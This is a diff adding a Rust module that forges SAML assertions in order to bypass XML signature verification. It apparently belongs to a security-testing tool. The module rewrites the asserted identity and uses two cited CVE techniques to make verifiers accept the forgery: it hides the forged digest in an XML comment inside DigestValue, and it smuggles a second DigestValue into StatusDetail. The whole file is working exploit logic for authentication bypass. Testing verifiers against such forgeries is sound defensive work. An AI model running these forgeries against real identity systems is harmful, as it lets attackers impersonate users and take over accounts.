@@ -1,0 +1,60 @@
+//! XML-DSig internals: where verifiers read the digest or the SignedInfo from.
+
+use crate::bytes::{
+    after_start_tag, before_end_tag, child, insert, splice, Doc, DSIG_NS, PROTOCOL_NS,
+};
+use crate::crypto::{reference_digest, seed_digest_method};
+use crate::family::{forged, Parts};
+use crate::forge::{Forge, Forged, Skip};
+use crate::identity;
+
+const PLACEHOLDER: &str = "FORGED_DIGEST_PLACEHOLDER";
+
+/// The Assertion forged in place (Signature kept); `extra` adds edits; then `PLACEHOLDER`
+/// becomes the digest of the forged Assertion.
+fn with_forged_digest(
+    f: &Forge,
+    extra: &dyn Fn(&Parts) -> Result<Vec<(std::ops::Range<usize>, String)>, Skip>,
+) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let method = seed_digest_method(sig);
+    let (mut edits, swap) =
+        identity::rewrite_edits(&doc, p.assertion.range(), &identity::target_of);
+    edits.extend(extra(&p)?);
+    let xml = splice(doc.src, edits);
+    let digest = reference_digest(&xml, p.assertion_id(), method)?;
+    forged(xml.replace(PLACEHOLDER, &digest), swap)
+}
+
+/// `<DigestValue><!--H(forged)-->H(original)</DigestValue>` (xml-crypto CVE-2025-29775).
+pub fn comment_in_digest_value(f: &Forge) -> Result<Forged, Skip> {
+    with_forged_digest(f, &|p| {
+        let dv = p
+            .assertion_sig
+            .and_then(|s| {
+                s.descendants()
+                    .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
+            })
+            .ok_or_else(|| Skip("the Assertion's Signature has no DigestValue".into()))?;
+        Ok(vec![insert(
+            after_start_tag(p.doc.src, dv),
+            format!("<!--{PLACEHOLDER}-->"),
+        )])
+    })
+}
+
+/// A second `ds:DigestValue` holding H(forged) earlier in document order, in StatusDetail
+/// (ruby-saml CVE-2024-45409: `//ds:DigestValue` searched the whole document).
+pub fn digest_value_smuggled(f: &Forge) -> Result<Forged, Skip> {
+    with_forged_digest(f, &|p| {
+        let status = child(p.root, PROTOCOL_NS, "Status")
+            .ok_or_else(|| Skip("the seed has no Status".into()))?;
+        let detail = format!(
+                "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\"><ds:Reference xmlns:ds=\"{DSIG_NS}\" URI=\"#{}\"><ds:DigestValue>{PLACEHOLDER}</ds:DigestValue></ds:Reference></samlp:StatusDetail>",
+                p.assertion_id()
+            );
+        Ok(vec![insert(before_end_tag(p.doc.src, status), detail)])
+    })
+}
